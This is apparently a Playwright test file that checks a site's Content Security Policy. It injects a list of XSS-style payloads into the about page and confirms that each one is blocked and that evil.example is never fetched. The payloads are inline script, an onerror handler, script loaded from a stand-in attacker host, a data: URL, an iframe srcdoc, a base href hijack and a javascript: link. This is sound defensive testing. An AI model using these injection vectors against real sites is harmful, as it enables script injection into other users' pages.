import { routes } from '#site/routes.ts';
import { expect, test } from './support/test.ts';

test.use({ tolerated: /Content Security Policy|none\.png|\/x\.js/ });

/** What an attacker may get into a page. */
const injections = [
  '<script>window.hacked = 1</script>',
  '<img src="/none.png" onerror="window.hacked = 1" alt="">',
  '<script src="https://evil.example/x.js"></script>',
  '<script src="data:text/javascript,window.hacked=1"></script>',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '<base href="https://evil.example/"><script src="x.js"></script>',
];

// That the policy blocks nothing of ours is seen by every browser test: each reads the console.
test('CSP: injected scripts, handlers, frames and base URLs do not run', async ({ page }) => {
  const violations: string[] = [];
  const asked: string[] = [];
  await page.exposeFunction('report', (directive: string) => violations.push(directive));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      void Reflect.get(window, 'report')(effectiveDirective);
    });
  });
  await page.route('https://evil.example/**', (route) => {
    asked.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: 'window.hacked = 1' });
  });
  await page.route(routes.about, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('</body>', () => `${injections.join('\n')}</body>`);
    await route.fulfill({ response, body });
  });
  await page.goto(routes.about);
  await page.evaluate(() => {
    const link = document.createElement('a');
    link.setAttribute('href', 'javascript:window.hacked=1');
    document.body.append(link);
    link.click();
  });
  await expect
    .poll(() => violations.toSorted())
    .toEqual(['base-uri', 'script-src-attr', ...Array<string>(5).fill('script-src-elem')]);
  expect(asked).toEqual([]);
  expect(await page.evaluate(() => Reflect.has(window, 'hacked'))).toBe(false);
});
